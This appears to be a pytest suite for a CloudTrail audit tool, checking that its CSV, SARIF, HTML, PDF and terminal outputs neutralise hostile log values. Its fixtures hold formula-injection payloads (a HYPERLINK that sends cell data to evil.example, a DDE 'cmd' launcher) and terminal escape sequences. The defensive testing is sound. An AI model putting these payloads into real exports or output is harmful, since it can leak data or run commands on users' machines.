"""Log values are attacker-controlled: no output may run them as spreadsheet formulas, break on their control
characters, or let them drive the terminal."""

import csv
import io
import json
from datetime import UTC, datetime
from xml.etree import ElementTree as ET

import pytest
from conftest import ct_event, run_cli, write_trail_file
from pypdf import PdfReader
from rich.console import Console

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd"
PLUS = "+1+1"
TAB = "\t=1+1"
# Clear screen, cursor home, an OSC window title, NUL, SOH and a lone 8-bit CSI.
EVIL_UID = "evil\x1b[2J-3"
EVIL_ACTOR = "arn:aws:iam::111122223333:user/x\x1b]0;pwned\x07\x00\x01"
EVIL_AGENT = "ua\x1b]0;pwned\x07\x1b[H\x9b"
RAW = ("\x1b", "\x07", "\x00", "\x01", "\x9b")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _event(uid: str, arn: str, agent: str, **fields) -> dict:
    """A read of the EU-only bucket from us-east-1: XR-001 and XR-002 report it, with its values."""
    return ct_event(uid, time="2024-03-05T10:00:00Z", userAgent=agent, awsRegion="us-east-1",
                    userIdentity={"type": "IAMUser", "accountId": "111122223333", "arn": arn},
                    requestParameters={"bucketName": "pii-eu", "key": "a.csv", "Host": "pii-eu.s3.amazonaws.com"},
                    **fields)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    write_trail_file(root / "logs" / "t.json.gz", [
        _event(FORMULA, MINUS, AT), _event("tab-1", PLUS, TAB),
        _event(EVIL_UID, EVIL_ACTOR, EVIL_AGENT, eventName="GetObject\x1b[31m"),
    ])
    config = root / "sovaudit.toml"
    config.write_text('[[data_classes]]\nname = "pii"\nhome = "EU"\ntier = 1\nretention_days = 30\n'
                      'resources = ["arn:aws:s3:::pii-eu*"]\n')
    pulled = run_cli("pull", "cloudtrail", "--path", str(root / "logs"), "--lake", str(root / "lake"))
    assert pulled.returncode == 0, pulled.stderr
    return root, ("--lake", str(root / "lake"), "--config", str(config))


def _no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (cell, row)


# -- item 5: spreadsheet formulas ----------------------------------------------------------------------------

def test_check_csv_prefixes_formula_cells(hostile):
    _, args = hostile
    proc = run_cli("check", "--format", "csv", *args)
    assert proc.returncode == 1, proc.stderr
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    _no_formula_cells(rows)
    header = rows[0]
    by_actor = {r[header.index("actor")]: dict(zip(header, r, strict=True)) for r in rows[1:] if r[0] == "XR-001"}
    assert set(by_actor) >= {"'" + MINUS, "'" + PLUS}
    assert by_actor["'" + MINUS]["evidence"] == "'" + FORMULA  # evidence: the value intact after the quote
    assert by_actor["'" + MINUS]["event_count"] == "1"  # a number


def test_report_csv_files_prefix_formula_cells(hostile, tmp_path):
    _, args = hostile
    proc = run_cli("report", "--format", "json", "--out", str(tmp_path / "r.json"), *args)
    assert proc.returncode == 1, proc.stderr
    findings = list(csv.reader((tmp_path / "findings.csv").open(newline="")))
    evidence = list(csv.DictReader((tmp_path / "evidence.csv").open(newline="")))
    _no_formula_cells(findings)
    _no_formula_cells([list(r.values()) for r in evidence])
    row = next(r for r in evidence if r["event_uid"] == "'" + FORMULA)
    assert (row["actor"], row["user_agent"]) == ("'" + MINUS, "'" + AT)
    assert row["evidence_index"].isdigit()
    assert next(r for r in evidence if r["event_uid"] == "tab-1")["user_agent"] == "'" + TAB


def test_sql_csv_prefixes_text_but_not_numbers(hostile):
    _, args = hostile
    proc = run_cli("sql", "--format", "csv", *args[:2],
                   "SELECT -5 AS n, -2.5 AS d, '-5' AS s, '=1+1' AS f, 'plain' AS p")
    assert proc.returncode == 0, proc.stderr
    assert list(csv.reader(io.StringIO(proc.stdout)))[1] == ["-5", "-2.5", "'-5", "'=1+1", "plain"]
    proc = run_cli("sql", "--format", "csv", *args[:2], "SELECT user_agent FROM events ORDER BY 1")
    rows = list(csv.reader(io.StringIO(proc.stdout)))
    _no_formula_cells(rows)
    assert ["'" + AT] in rows and ["'" + TAB] in rows


# -- item 6: JUnit, SARIF, HTML and PDF whatever the value -----------------------------------------------------

def test_junit_parses_and_shows_control_characters(hostile):
    _, args = hostile
    proc = run_cli("check", "--format", "junit", *args)
    root = ET.fromstring(proc.stdout.encode())
    text = "".join(f.text for f in root.iter("failure"))
    assert "user/x\\x1b]0;pwned\\x07\\x00\\x01" in text
    assert not any(c in proc.stdout for c in RAW)


def _run_with(value: str):
    from sovaudit.checks.catalogue import discover
    from sovaudit.checks.runner import CheckResult, CheckRun, Finding
    from sovaudit.checks.session import Window

    check = next(c for c in discover() if c.id == "XR-001")
    now = datetime(2024, 3, 5, tzinfo=UTC)
    finding = Finding(value, value, value, value, value, now, now, 1, value, [value], 1)
    return CheckRun([CheckResult(check, "FAIL", value, [finding], 0.1)], Window(now, now, now, False), [],
                    value, None, None, [value], now)


def test_writers_survive_a_lone_surrogate():
    """A lone surrogate cannot be encoded as UTF-8: each writer shows it as the text \\udc80 instead."""
    from sovaudit.checks.formats import WRITERS

    value = "x\udc80y"
    for name, writer in WRITERS.items():
        data = writer(_run_with(value)).encode("utf-8")
        assert b"x\\udc80y" in data.replace(b"\\\\", b"\\"), name
    sarif = json.loads(WRITERS["sarif"](_run_with(value)))
    assert sarif["runs"][0]["results"][0]["message"]["text"] == "x\\udc80y"


def test_sarif_and_json_keep_control_characters_exactly(hostile):
    """JSON can carry every control character as an escape: the machine formats keep the value as logged."""
    _, args = hostile
    sarif, findings = (run_cli("check", "--format", fmt, *args).stdout for fmt in ("sarif", "json"))
    assert not any(c in sarif + findings for c in RAW)
    assert EVIL_ACTOR in {r["properties"]["actor"] for r in json.loads(sarif)["runs"][0]["results"]}
    assert EVIL_ACTOR in {f["actor"] for c in json.loads(findings)["checks"] for f in c["findings"]}


def test_html_and_pdf_show_control_characters(hostile, tmp_path):
    _, args = hostile
    for fmt in ("html", "pdf"):
        proc = run_cli("report", "--format", fmt, "--out", str(tmp_path / f"r.{fmt}"), *args)
        assert proc.returncode == 1, proc.stderr
    html = (tmp_path / "r.html").read_text()
    assert not any(c in html for c in RAW)
    assert "user/x\\x1b]0;pwned\\x07\\x00\\x01" in html and "ua\\x1b]0;pwned\\x07\\x1b[H\\x9b" in html
    text = "".join(page.extract_text() for page in PdfReader(tmp_path / "r.pdf").pages).replace("\n", "")
    assert not any(c in text for c in RAW)
    assert "\\x1b]0;pwned\\x07" in text


# -- item 7: terminal escape sequences ------------------------------------------------------------------------

def _assert_shown_not_obeyed(output: str, *shown: str) -> None:
    assert not any(c in output for c in RAW), [c for c in RAW if c in output]
    for s in shown:
        assert s in output, s


def test_sql_table_shows_escape_sequences(hostile):
    _, args = hostile
    proc = run_cli("sql", *args[:2], "SELECT event_uid, actor, user_agent, action FROM events")
    assert proc.returncode == 0, proc.stderr
    _assert_shown_not_obeyed(proc.stdout, "evil\\x1b[2J-3", "user/x\\x1b]0;pwned\\x07\\x00\\x01",
                             "ua\\x1b]0;pwned\\x07\\x1b[H\\x9b", "GetObject\\x1b[31m")


def test_sql_error_line_shows_escape_sequences(hostile):
    _, args = hostile
    query = f"SELECT CAST(user_agent AS INT) FROM events WHERE event_uid = '{EVIL_UID}'"  # noqa: S608
    proc = run_cli("sql", *args[:2], query)
    assert proc.returncode == 2
    _assert_shown_not_obeyed(proc.stderr, "error:", "ua\\x1b]0;pwned")


def test_check_table_shows_escape_sequences(hostile):
    _, args = hostile
    proc = run_cli("check", *args)
    assert proc.returncode == 1, proc.stderr
    _assert_shown_not_obeyed(proc.stdout + proc.stderr, "evil\\x1b[2J-3")


def test_pull_notes_and_failures_show_escape_sequences(monkeypatch):
    from sovaudit import cli
    from sovaudit.pull import PullResult

    out = io.StringIO()
    monkeypatch.setattr(cli, "console", Console(file=out, width=200))
    entry = {"counts": {"read": 1, "stored": 0, "duplicate": 0, "quarantined": 1}, "hash": "ab" * 32,
             "blobs": {"blobs": 1, "blobs_skipped": 0, "digest_blobs": 0},
             "failures": [{"error": "s3://b/k\x1b]0;pwned\x07: access denied"}],
             "quarantine_file": {"path": "quarantine/q\x1b[2J.jsonl"}}
    cli._report_pulls([PullResult("trail\x1b[31m", entry, ["listing s3://b/\x1b[H\x00 took long"])], "table")
    _assert_shown_not_obeyed(out.getvalue(), "trail\\x1b[31m", "s3://b/k\\x1b]0;pwned\\x07",
                             "q\\x1b[2J.jsonl", "s3://b/\\x1b[H\\x00")


def test_verify_breaks_show_escape_sequences():
    from sovaudit.verify.lake_integrity import LakeVerification
    from sovaudit.verify.outcome import CheckOutcome
    from sovaudit.verify.render import render_report
    from sovaudit.verify.run import VerifyReport

    outcome = CheckOutcome("archive", "archived blobs", checked=1, unit="blobs",
                           notes=["note on s3://b/\x1b[2J"])
    outcome.broken("s3://b/k\x1b]0;pwned\x07", "hash differs\x00", "aa\x1b[H", "bb\x01")
    out = io.StringIO()
    render_report(VerifyReport(LakeVerification("lake", datetime.now(UTC), "h", 1, [outcome])),
                  Console(file=out, width=200))
    _assert_shown_not_obeyed(out.getvalue(), "s3://b/k\\x1b]0;pwned\\x07", "hash differs\\x00", "aa\\x1b[H",
                             "bb\\x01", "s3://b/\\x1b[2J")


def test_rich_styling_still_reaches_a_terminal():
    """The values are escaped, not Rich's output: a colour terminal still gets Rich's own sequences."""
    from sovaudit.output import write_rows

    out = io.StringIO()
    console = Console(file=out, width=200, force_terminal=True, color_system="standard")
    write_rows(["actor"], [(EVIL_ACTOR,)], "table", console)
    assert "\x1b[1;36m" in out.getvalue()  # the bold cyan header
    assert "\x1b]0;" not in out.getvalue() and "\x07" not in out.getvalue() and "\x00" not in out.getvalue()
    assert "user/x\\x1b]0;pwned\\x07\\x00\\x01" in out.getvalue()
